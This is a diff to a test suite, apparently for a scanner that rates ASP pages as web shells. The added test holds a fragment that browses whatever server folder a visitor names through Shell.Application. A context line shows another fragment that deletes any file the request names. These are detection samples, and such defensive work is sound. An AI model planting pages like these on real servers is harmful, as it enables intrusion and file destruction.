@@ -601,6 +601,26 @@ If Request("del") <> "" Then fso.DeleteFile Request("del")
     });
   });
 
+  it("ranks a page opening the visitor's folders through Shell.Application critical", () => {
+    const page = `<%
+szCMD = Request.Form("text")
+if (szCMD <> "") then
+set shell = server.createobject("shell.application")
+set fod1 = shell.namespace(szcmd)
+for each co in fod1.items
+response.write co.path & " " & co.size & "<br>"
+next
+end if
+%>`;
+    expect(judge('/inetpub/wwwroot/sa.asp', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/folders the visitor names through Shell\.Application/),
+    });
+    // The page's own folder, opened the same way.
+    const own = page.replace('shell.namespace(szcmd)', 'shell.namespace(Server.MapPath("/files"))');
+    expect(judge('/inetpub/wwwroot/sa.asp', own)?.severity ?? 'info').not.toMatch(/high|critical/);
+  });
+
   it('leaves an upload manager deleting within its own folder alone', () => {
     const page = `<%
 path = "/userfiles" & Replace(Request.Form("path"), "..", "")
